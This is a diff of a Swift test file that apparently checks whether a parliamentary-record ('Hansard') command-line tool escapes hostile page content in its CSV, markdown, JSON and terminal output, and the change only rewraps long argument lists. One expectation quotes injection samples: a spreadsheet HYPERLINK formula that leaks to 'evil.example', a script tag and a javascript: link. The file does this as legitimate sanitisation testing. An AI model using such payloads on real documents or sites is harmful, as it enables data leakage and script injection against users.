@@ -42,7 +42,9 @@ struct OutputEscapingCommandTests {
 
     /// The commitment id of the quote holding `words`, from the CSV list.
     static func id(quoting words: String, register: String) throws -> String {
-        let csv = try HansardCommand.run(["commitments", "--all-governments", "--register", register, "--format", "csv"]).standardOutput
+        let csv = try HansardCommand.run([
+            "commitments", "--all-governments", "--register", register, "--format", "csv",
+        ]).standardOutput
         let row = try #require(csv.components(separatedBy: "\r\n").first { $0.contains(words) })
         return String(row.prefix { $0 != "," })
     }
@@ -107,10 +109,12 @@ struct OutputEscapingCommandTests {
         for arguments in tables + [
             ["register", "show", id, "--register", register],
             ["analyse", "--format", "table", page], ["parse", "--format", "text", page],
-            ["analyse", "--format", "md", page], ["commitments", "--all-governments", "--register", register, "--format", "md"],
+            ["analyse", "--format", "md", page],
+            ["commitments", "--all-governments", "--register", register, "--format", "md"],
             ["report", "--register", register, "--format", "md", "--out", "-"],
             ["diff", "--format", "md", register, register],
-            ["parse", page], ["analyse", page], ["commitments", "--all-governments", "--register", register, "--format", "json"],
+            ["parse", page], ["analyse", page],
+            ["commitments", "--all-governments", "--register", register, "--format", "json"],
         ] {
             let outcome = try HansardCommand.run(arguments)
             #expect(outcome.status == 0 || arguments[0] == "diff", "\(arguments): \(outcome.standardError)")
@@ -141,7 +145,9 @@ struct OutputEscapingCommandTests {
         @Test("On a terminal the commitments table is coloured, and the page's controls are still only shown")
         func controlsOnATerminal() throws {
             let (_, _, register) = try Self.registerWithHostilePage()
-            let outcome = try HansardCommand.runOnTerminal(["commitments", "--all-governments", "--quote", "--register", register])
+            let outcome = try HansardCommand.runOnTerminal([
+                "commitments", "--all-governments", "--quote", "--register", register,
+            ])
             #expect(outcome.status == 0, "\(outcome.standardError)")
             #expect(outcome.standardOutput.contains("\u{1B}[1m"), "no colour: not a terminal?")
             #expect(outcome.standardOutput.contains(Self.controlsShown))
@@ -161,7 +167,8 @@ struct OutputEscapingCommandTests {
                 "# =HYPERLINK(\"http://evil.example/?leak\",\"Click\") \\<script\\>alert(\"title\")\\</script\\>"
                     + " \\[click\\](javascript:alert(1))"))
         for arguments in [
-            ["analyse", "--format", "md", page], ["commitments", "--all-governments", "--register", register, "--format", "md"],
+            ["analyse", "--format", "md", page],
+            ["commitments", "--all-governments", "--register", register, "--format", "md"],
             ["report", "--register", register, "--format", "md", "--out", "-"],
         ] {
             let outcome = try HansardCommand.run(arguments)
